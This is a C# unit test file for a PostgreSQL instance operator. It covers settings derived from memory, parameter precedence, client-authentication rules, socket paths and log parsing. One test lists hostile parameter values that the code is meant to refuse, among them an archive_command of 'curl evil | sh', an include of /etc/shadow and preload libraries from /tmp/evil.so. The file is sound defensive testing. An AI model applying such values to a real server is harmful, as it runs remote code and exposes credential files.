using Cornac.Operators.Contract;
using Cornac.Operators.Engine;
using Cornac.Operators.Machines;

namespace Cornac.Operators.Tests.Engine;

public sealed class ServerConfigurationTests
{
    private const string BackupProgram = "/usr/bin/pgbackrest";

    private static readonly NodeLayout Node = new("/d/instances/db-A/n1");

    private static readonly InstanceSpec Spec = new()
    {
        ResourceId = "db-A",
        Name = "shop",
        Generation = 1,
        EngineVersion = "15.18",
        Class = new InstanceClass("db.t3.micro", 2, 1L << 30),
        StorageGiB = 5,
        Address = "127.0.78.1",
        Port = 5432,
        MasterUsername = "boss",
        Power = PowerState.Running,
    };

    [Theory]
    [InlineData(1, "shared_buffers", "32768")]
    [InlineData(1, "effective_cache_size", "65536")]
    [InlineData(1, "max_connections", "112")]
    [InlineData(1, "maintenance_work_mem", "65536")]
    [InlineData(1, "autovacuum_max_workers", "3")]
    [InlineData(16, "max_connections", "1802")]
    [InlineData(16, "maintenance_work_mem", "274432")]
    [InlineData(512, "max_connections", "5000")]
    [InlineData(512, "autovacuum_max_workers", "8")]
    public void Setting_follows_from_the_memory_of_the_class(int gibibytes, string name, string value)
    {
        var settings = DerivedSettings.For(new InstanceClass("x", 2, (long)gibibytes << 30)).ToDictionary(s => s.Key, s => s.Value, StringComparer.Ordinal);

        Assert.Equal(value, settings[name]);
    }

    [Fact]
    public void Parameter_wins_over_the_class_and_loses_to_what_Cornac_depends_on()
    {
        var parameters = new Dictionary<string, string>(StringComparer.Ordinal) { ["max_connections"] = "7", ["port"] = "1", ["rds.force_ssl"] = "1" };

        var lines = ServerConfiguration.Settings(Spec with { Parameters = parameters }, Node, BackupProgram).Split('\n');

        Assert.Equal("max_connections = '7'", lines.Last(l => l.StartsWith("max_connections", StringComparison.Ordinal)));
        Assert.Equal("port = '5432'", lines.Last(l => l.StartsWith("port ", StringComparison.Ordinal)));
        Assert.DoesNotContain(lines, l => l.StartsWith("rds.", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("archive_command", "curl evil | sh")]
    [InlineData("Archive_Command", "id")]
    [InlineData("restore_command", "id")]
    [InlineData("ssl_passphrase_command", "id")]
    [InlineData("external_pid_file", "/var/lib/cornac/instances/other/n1/data/postmaster.pid")]
    [InlineData("data_directory", "/tmp/x")]
    [InlineData("include", "/etc/shadow")]
    [InlineData("INCLUDE_DIR", "/etc")]
    [InlineData("dynamic_library_path", "/tmp")]
    [InlineData("session_preload_libraries", "/tmp/evil.so")]
    [InlineData("shared_preload_libraries", "pg_stat_statements,../../tmp/evil")]
    public void Parameter_that_reaches_beyond_the_database_is_refused(string name, string value)
    {
        var parameters = new Dictionary<string, string>(StringComparer.Ordinal) { [name] = value };

        var refused = Assert.Throws<EngineException>(() => ServerConfiguration.Settings(Spec with { Parameters = parameters }, Node, BackupProgram));

        Assert.Equal(FailureKind.Permanent, refused.Kind);
        Assert.Contains(name, refused.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("shared_preload_libraries", "pg_stat_statements, auto_explain")]
    [InlineData("session_preload_libraries", "")]
    [InlineData("archive_timeout", "300")]
    public void Parameter_that_stays_within_the_database_is_taken(string name, string value)
    {
        var parameters = new Dictionary<string, string>(StringComparer.Ordinal) { [name] = value };

        Assert.Contains($"{name} = '{value}'\n", ServerConfiguration.Settings(Spec with { Parameters = parameters }, Node, BackupProgram), StringComparison.Ordinal);
    }

    [Fact]
    public void Configuration_is_the_same_for_the_same_specification() =>
        Assert.Equal(ServerConfiguration.Settings(Spec, Node, BackupProgram), ServerConfiguration.Settings(Spec with { Generation = 9 }, Node, BackupProgram));

    [Fact]
    public void Access_is_by_peer_certificate_or_password_and_never_in_clear()
    {
        const string Expected = """
            local   all "rdsadmin","boss" peer map=cornac
            hostssl all "rdsadmin" all cert
            host    all "rdsadmin" all reject
            hostssl all all all scram-sha-256

            """;
        Assert.Equal(Expected, ServerConfiguration.Access(Spec));
    }

    [Fact]
    public void Identities_name_each_user_once()
    {
        Assert.Equal(4, Lines(new MachineFacts(1, "root", "postgres")));
        Assert.Equal(2, Lines(new MachineFacts(1, "me", "me")));

        static int Lines(MachineFacts facts) => ServerConfiguration.Identities(Spec, facts).Count(c => c == '\n');
    }

    [Fact]
    public void Socket_directory_is_short_enough_for_any_folder()
    {
        var deep = new NodeLayout("/" + new string('x', 100) + "/n1");

        Assert.Equal("/d/instances/db-A/n1/run", Node.SocketDirectory);
        Assert.StartsWith("/tmp/cornac-", deep.SocketDirectory, StringComparison.Ordinal);
        Assert.InRange((deep.SocketDirectory + "/.s.PGSQL.65535").Length, 1, 107);
    }

    [Theory]
    [InlineData("2026-01-01 LOG:  x\n2026-01-01 FATAL:  could not bind", "could not bind")]
    [InlineData("LOG:  invalid value for parameter \"work_mem\": \"x\"\nFATAL:  configuration file \"f\" contains errors", "invalid value for parameter \"work_mem\": \"x\"")]
    [InlineData("psql:<stdin>:3: ERROR:  role does not exist", "role does not exist")]
    [InlineData("LOG:  all is well", null)]
    public void Reason_is_found_in_a_log(string log, string? reason) => Assert.Equal(reason, ServerLog.Reason(log));
}
